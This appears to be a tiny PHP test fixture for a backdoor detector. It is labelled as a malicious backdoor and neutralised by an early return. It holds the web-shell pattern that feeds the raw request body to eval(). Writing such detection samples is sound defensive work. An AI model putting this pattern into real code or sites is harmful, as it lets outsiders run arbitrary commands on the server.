<?php return; // want: malicious backdoor php.code.request
$in = file_get_contents('php://input');
eval($in);
